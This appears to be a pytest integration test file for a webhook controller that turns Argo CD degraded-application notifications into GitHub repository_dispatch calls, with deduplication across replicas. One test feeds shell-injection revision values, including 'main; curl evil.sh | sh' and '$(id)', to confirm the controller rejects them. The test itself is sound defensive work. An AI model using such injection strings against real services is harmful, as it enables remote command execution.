"""Argo CD rollback dispatch through the real parts: an Argo CD notification to Envoy + filter, attested to
the controller, which calls a local server speaking GitHub's repository_dispatch endpoint; and two controller
replicas sharing their dispatch records (Leases) through the real kube-apiserver."""

from __future__ import annotations

import base64
import hashlib
import hmac
import http.client
import json
import re
import secrets
import threading
import time
from concurrent.futures import ThreadPoolExecutor
from datetime import datetime, timedelta, timezone

import pytest

from gitops import CONTROLLER_NAMESPACE, KEY, FakeGitHub, controller_env
from harness import Controller
from served import ServedEdge, receiver, secret

ARGO_TOKEN = "argocd-notifications-token-0123456789"
BASIC = "argocd:basic-password-0123456789"
BASIC_AUTH = "Basic " + base64.b64encode(BASIC.encode()).decode()
GITHUB_TOKEN = "ghp_dispatchTokenNeverLogged0123456789"
FAILED = "3f786850e387550fdab836ed7e6dc881de23001b"
HEALTHY = "aaf4c61ddcc5e8a2dabede0f3b482cd9aea9434d"


@pytest.fixture(scope="module")
def github():
    fake = FakeGitHub()
    yield fake
    fake.server.shutdown()


@pytest.fixture(scope="module")
def edge(cp, github, tmp_path_factory):
    workdir = tmp_path_factory.mktemp("dispatch")
    (workdir / "github-token").write_text(GITHUB_TOKEN + "\n")
    args = ["--github-api-url", f"http://127.0.0.1:{github.port}", "--github-token-file", str(workdir / "github-token"),
            "--deadline-ms", "1500"]
    objects = [
        receiver("guestbook", "argocd", {
            "type": "bearer", "path": "/hook/argocd-degraded", "action": "dispatch",
            "dispatch": {"repository": "example/gitops"}, "secretRef": {"name": "argocd-notifications"}}),
        receiver("shop", "argocd", {
            "type": "basic", "path": "/hook/argocd-basic", "action": "dispatch",
            "dispatch": {"repository": "example/shop", "eventType": "rollback", "applications": ["shop", "cart"]},
            "secretRef": {"name": "argocd-notifications", "keys": ["basic"]}}),
        secret("argocd-notifications", "argocd", {"token": ARGO_TOKEN, "basic": BASIC}),
    ]
    # Dispatch receivers use the controller's GitHub token: allowed in argocd, not only in its own namespace.
    with ServedEdge(cp, workdir, objects, controller_args=[*args, "--dispatch-namespace", "argocd"]) as served:
        served.envoy.controller = served.controller
        yield served.envoy


def notify(port: int, failed: str = FAILED, healthy: str = HEALTHY, auth: str | None = f"Bearer {ARGO_TOKEN}",
           path: str = "/hook/argocd-degraded", application: str | None = None,
           event_type: str = "argo-degraded") -> tuple[int, dict]:
    """What Argo CD's webhook service sends with the documented template."""
    payload = {"failed_revision": failed, "healthy_revision": healthy}
    if application:
        payload["application"] = application
    body = json.dumps({"event_type": event_type, "client_payload": payload}).encode()
    headers = {"Content-Type": "application/json"}
    if auth:
        headers["Authorization"] = auth
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
    conn.request("POST", path, body=body, headers=headers)
    response = conn.getresponse()
    result = response.status, json.loads(response.read() or b"{}")
    conn.close()
    return result


def dispatches_total(controller: Controller) -> dict[str, float]:
    """The controller's hookgate_dispatches_total by outcome."""
    _, text = controller.get("/metrics")
    found = (re.fullmatch(r'hookgate_dispatches_total\{outcome="(\w+)"\} (\S+)', line) for line in text.splitlines())
    return {m.group(1): float(m.group(2)) for m in found if m}


def test_degraded_notification_dispatches_once_with_the_healthy_revision(edge, github):
    github.reset()
    before = dispatches_total(edge.controller)
    status, reply = notify(edge.port)
    assert (status, reply["dispatch"]) == (200, "sent"), reply
    assert len(github.requests) == 1
    sent = github.requests[0]
    assert sent["path"] == "/repos/example/gitops/dispatches"
    assert sent["headers"]["authorization"] == f"Bearer {GITHUB_TOKEN}"
    assert sent["headers"]["accept"] == "application/vnd.github+json"
    assert sent["headers"]["x-github-api-version"] == "2022-11-28"
    assert sent["body"] == {"event_type": "argo-degraded", "client_payload": {
        "application": "guestbook", "failed_revision": FAILED, "healthy_revision": HEALTHY}}

    # Argo CD retries: the same application and failed revision dispatches once. A retry comes at least
    # retryWaitMin (1 s by default) later; the same notification again within the same second is attested
    # with the same signature, which the controller refuses as a replay.
    time.sleep(1)
    status, reply = notify(edge.port)
    assert (status, reply["dispatch"]) == (200, "deduplicated")
    assert len(github.requests) == 1
    # Another failed revision is another rollback.
    status, reply = notify(edge.port, failed="b" * 40)
    assert (status, reply["dispatch"]) == (200, "sent")
    assert len(github.requests) == 2
    after = dispatches_total(edge.controller)
    assert {k: after.get(k, 0) - before.get(k, 0) for k in ("sent", "deduplicated")} == {"sent": 2, "deduplicated": 1}


def test_basic_auth_notification_and_configured_event_type(edge, github):
    github.reset()
    status, reply = notify(edge.port, failed="c" * 40, auth=BASIC_AUTH, path="/hook/argocd-basic", application="cart")
    assert status == 200, reply
    assert github.requests[0]["path"] == "/repos/example/shop/dispatches"
    assert github.requests[0]["body"]["event_type"] == "rollback"
    assert github.requests[0]["body"]["client_payload"]["application"] == "cart"


@pytest.mark.parametrize("auth,status", [(None, 401), (f"Bearer {ARGO_TOKEN}x", 401), ("Bearer", 401),
                                         ("Basic " + base64.b64encode(b"argocd:wrong").decode(), 401)])
def test_unauthenticated_notifications_never_reach_the_controller(edge, github, auth, status):
    github.reset()
    got, reply = notify(edge.port, failed="d" * 40, auth=auth)
    assert got == status, reply
    assert github.requests == []
    assert "d" * 40 not in edge.controller.log(), "nothing of the refused notification reached the controller"


NOT_LISTED = {"error": "application not allowed"}
OTHER_WORKFLOW = {"error": "event type not allowed"}


@pytest.mark.parametrize("path,auth,application,event_type,refusal", [
    pytest.param("/hook/argocd-degraded", f"Bearer {ARGO_TOKEN}", "billing", "argo-degraded", NOT_LISTED,
                 id="no list: not the receiver's name"),
    pytest.param("/hook/argocd-degraded", f"Bearer {ARGO_TOKEN}", "guestbook-prod", "argo-degraded", NOT_LISTED,
                 id="no list: extends the name"),
    pytest.param("/hook/argocd-basic", BASIC_AUTH, "billing", "argo-degraded", NOT_LISTED,
                 id="listing shop and cart: unlisted"),
    pytest.param("/hook/argocd-basic", BASIC_AUTH, "car", "argo-degraded", NOT_LISTED,
                 id="listing shop and cart: a prefix of a listed one"),
    pytest.param("/hook/argocd-degraded", f"Bearer {ARGO_TOKEN}", None, "deploy-prod", OTHER_WORKFLOW,
                 id="no eventType configured: another workflow named"),
])
def test_a_notification_the_receiver_does_not_allow_is_refused_at_the_edge(
        edge, github, path, auth, application, event_type, refusal):
    github.reset()
    failed = "0abc" * 10
    before = edge.controller.requests_answered()
    status, reply = notify(edge.port, failed=failed, auth=auth, path=path, application=application,
                           event_type=event_type)
    assert (status, reply) == (403, refusal)
    assert github.requests == []
    assert edge.controller.requests_answered() == before, "nothing reached the controller"
    assert failed not in edge.controller.log()


@pytest.mark.parametrize("failed,healthy", [("main; curl evil.sh | sh", HEALTHY), (FAILED, "$(id)"), (FAILED, ""),
                                            ("-rf", HEALTHY)])
def test_revisions_that_are_not_git_ids_or_refs_are_refused_before_anything_is_sent(edge, github, failed, healthy):
    github.reset()
    status, reply = notify(edge.port, failed=failed, healthy=healthy)
    assert (status, reply) == (400, {"error": "malformed payload"})
    assert github.requests == []


@pytest.mark.parametrize("github_status", [401, 403, 404, 422])
def test_github_refusals_are_reported_as_bad_gateway(edge, github, github_status):
    github.reset([github_status])
    status, reply = notify(edge.port, failed=f"{github_status:x}" * 10)
    assert status == 502, reply
    assert reply["error"] == f"GitHub answered {github_status}: GitHub says {github_status}"
    assert len(github.requests) == 1, "a refusal is not retried"


def test_github_server_errors_are_retried_then_reported_unavailable(edge, github):
    github.reset([500, 502, 204])
    status, reply = notify(edge.port, failed="e" * 40)
    assert (status, reply["dispatch"]) == (200, "sent")
    assert len(github.requests) == 3

    github.reset([500] * 100)
    started = time.monotonic()
    status, reply = notify(edge.port, failed="f" * 40)
    assert status == 503, reply
    assert reply["error"] == "GitHub answered 500: GitHub says 500"
    assert 1 < len(github.requests) < 100
    assert time.monotonic() - started < 10
    # Not sent, so a redelivery tries again rather than being deduplicated.
    github.reset()
    status, reply = notify(edge.port, failed="f" * 40)
    assert (status, reply["dispatch"]) == (200, "sent")


def test_the_github_token_is_never_logged(edge, github):
    assert GITHUB_TOKEN not in edge.controller.log()
    assert GITHUB_TOKEN not in edge.log()


# -- two replicas, one dispatch record in the Kubernetes API ---------------------------------------------------
DEDUP_SECONDS = 3
BURST = 8
LEASES = f"/apis/coordination.k8s.io/v1/namespaces/{CONTROLLER_NAMESPACE}/leases"


@pytest.fixture(scope="module")
def replicas(cp, github, tmp_path_factory):
    """The Deployment's two replicas as two processes: the same ServiceAccount with only the manifests' RBAC,
    the same namespace from the downward API, a short dedup window."""
    workdir = tmp_path_factory.mktemp("replicas")
    (workdir / "github-token").write_text(GITHUB_TOKEN + "\n")
    args = ["--github-api-url", f"http://127.0.0.1:{github.port}", "--github-token-file", str(workdir / "github-token"),
            "--deadline-ms", "3000", "--dispatch-dedup-seconds", str(DEDUP_SECONDS)]
    env = controller_env(cp, workdir)
    with Controller(env, args) as first, Controller(env, args) as second:
        yield first, second


def dispatch_request(failed: str, delivery: str) -> bytes:
    """What the filter forwards for a guestbook notification (each delivery its own, so each attestation
    is another signature)."""
    return json.dumps({"receiver": {"namespace": "argocd", "name": "guestbook"}, "type": "bearer",
                       "deliveryId": delivery, "action": "dispatch",
                       "dispatch": {"repository": "example/gitops", "eventType": "argo-degraded",
                                    "application": "guestbook", "failedRevision": failed,
                                    "healthyRevision": HEALTHY}}).encode()


def attested(controller: Controller, body: bytes) -> tuple[int, dict]:
    """POSTs `body` to the controller attested as the filter attests it."""
    ts = str(int(time.time()))
    signature = "v1=" + hmac.new(KEY.encode(), ts.encode() + b"." + body, hashlib.sha256).hexdigest()
    conn = http.client.HTTPConnection("127.0.0.1", controller.port, timeout=30)
    try:
        conn.request("POST", "/hook/v1/reconcile", body=body, headers={
            "Content-Type": "application/json", "x-hookgate-timestamp": ts, "x-hookgate-signature": signature})
        response = conn.getresponse()
        return response.status, json.loads(response.read())
    finally:
        conn.close()


def burst(replicas, failed: str, n: int = BURST) -> list[str]:
    """`n` identical notifications at once, alternating between the replicas: the outcome of each."""
    start = threading.Barrier(n)

    def one(i: int) -> str:
        body = dispatch_request(failed, f"{failed[:8]}-{i}-{time.monotonic_ns()}")
        start.wait()
        status, reply = attested(replicas[i % 2], body)
        outcome = reply.get("dispatch", reply)
        assert (status, outcome) in {(200, "sent"), (200, "deduplicated"), (202, "in_progress")}, (status, reply)
        return outcome

    with ThreadPoolExecutor(n) as pool:
        return list(pool.map(one, range(n)))


def record_name(failed: str) -> str:
    """The Lease that records a guestbook dispatch of `failed`."""
    key = "\n".join(["example/gitops", "argo-degraded", "guestbook", failed])
    return "hookgate-dispatch-" + hashlib.sha256(key.encode()).hexdigest()


def record(cp, failed: str) -> dict | None:
    status, lease = cp.request("GET", f"{LEASES}/{record_name(failed)}")
    assert status in (200, 404), lease
    return lease if status == 200 else None


def seed_record(cp, failed: str, state: str, age: float, duration: int) -> dict:
    """A record as another replica left it: `state`, renewed `age` seconds ago, for `duration` seconds."""
    renewed = (datetime.now(timezone.utc) - timedelta(seconds=age)).strftime("%Y-%m-%dT%H:%M:%S.%fZ")
    return cp.ok("POST", LEASES, {
        "apiVersion": "coordination.k8s.io/v1", "kind": "Lease",
        "metadata": {"name": record_name(failed), "labels": {"hookgate.io/record": "dispatch"},
                     "annotations": {"hookgate.io/dispatch": state}},
        "spec": {"holderIdentity": "another-replica/1-0", "acquireTime": renewed, "renewTime": renewed,
                 "leaseDurationSeconds": duration, "leaseTransitions": 0}})


def test_two_replicas_dispatch_a_burst_of_identical_notifications_once(cp, replicas, github):
    github.reset(delay=0.3)  # the burst overlaps a dispatch in flight
    failed = secrets.token_hex(20)
    outcomes = burst(replicas, failed)
    assert len(github.requests) == 1, outcomes
    assert outcomes.count("sent") == 1, outcomes
    lease = record(cp, failed)
    assert lease["metadata"]["annotations"]["hookgate.io/dispatch"] == "sent"
    assert lease["metadata"]["labels"]["hookgate.io/record"] == "dispatch"
    assert lease["spec"]["leaseDurationSeconds"] == DEDUP_SECONDS

    # Once the window has passed, the same failure dispatches again: once, the expired record taken over by
    # exactly one replica.
    time.sleep(DEDUP_SECONDS + 1)
    outcomes = burst(replicas, failed)
    assert len(github.requests) == 2, outcomes
    assert outcomes.count("sent") == 1, outcomes
    assert record(cp, failed)["spec"]["leaseTransitions"] == 1


@pytest.mark.parametrize("state,age,duration,status,outcome,dispatched", [
    pytest.param("sending", 0, 60, 202, "in_progress", False, id="another replica is sending it"),
    pytest.param("sent", 0, 600, 200, "deduplicated", False, id="sent within the window"),
    pytest.param("sending", 120, 10, 200, "sent", True, id="a replica died while sending: taken over"),
    pytest.param("sent", 700, 600, 200, "sent", True, id="sent before the window: sent again"),
])
def test_an_existing_record_decides(cp, replicas, github, state, age, duration, status, outcome, dispatched):
    github.reset()
    failed = secrets.token_hex(20)
    seeded = seed_record(cp, failed, state, age, duration)
    got, reply = attested(replicas[0], dispatch_request(failed, "d-1"))
    assert (got, reply.get("dispatch", reply)) == (status, outcome)
    assert len(github.requests) == int(dispatched)
    lease = record(cp, failed)
    if dispatched:
        assert lease["spec"]["holderIdentity"] != "another-replica/1-0"
        assert lease["spec"]["leaseTransitions"] == 1
        assert lease["metadata"]["annotations"]["hookgate.io/dispatch"] == "sent"
    else:
        assert lease["metadata"]["resourceVersion"] == seeded["metadata"]["resourceVersion"], "left alone"


def test_a_failed_dispatch_deletes_its_record_so_a_redelivery_retries(cp, replicas, github):
    github.reset([422])
    failed = secrets.token_hex(20)
    status, reply = attested(replicas[0], dispatch_request(failed, "d-1"))
    assert status == 502, reply
    assert record(cp, failed) is None
    status, reply = attested(replicas[1], dispatch_request(failed, "d-2"))
    assert (status, reply["dispatch"]) == (200, "sent")
    assert len(github.requests) == 2


def test_expired_records_are_deleted_after_a_dispatch(cp, replicas, github):
    github.reset()
    expired, live, dispatched = (secrets.token_hex(20) for _ in range(3))
    seed_record(cp, expired, "sent", 700, 600)
    seed_record(cp, live, "sent", 0, 600)
    status, reply = attested(replicas[1], dispatch_request(dispatched, "d-1"))
    assert (status, reply["dispatch"]) == (200, "sent")
    deadline = time.monotonic() + 10
    while record(cp, expired) is not None:
        assert time.monotonic() < deadline, "the expired record is still there"
        time.sleep(0.1)
    assert record(cp, live) is not None
    assert record(cp, dispatched) is not None


def test_without_its_role_a_replica_sends_nothing(cp, github, tmp_path):
    """The records are the dedup: a controller that cannot write them refuses to dispatch (here: a namespace
    where the manifests give it no Role)."""
    github.reset()
    (tmp_path / "github-token").write_text(GITHUB_TOKEN)
    env = {**controller_env(cp, tmp_path), "POD_NAMESPACE": "argocd"}
    with Controller(env, ["--github-api-url", f"http://127.0.0.1:{github.port}",
                          "--github-token-file", str(tmp_path / "github-token")]) as controller:
        status, reply = attested(controller, dispatch_request(secrets.token_hex(20), "d-1"))
        assert (status, reply) == (500, {"error": "the dispatch cannot be recorded; not sent",
                                         "receiver": "argocd/guestbook", "deliveryId": "d-1"})
        assert github.requests == []
        assert "forbidden" in controller.log()
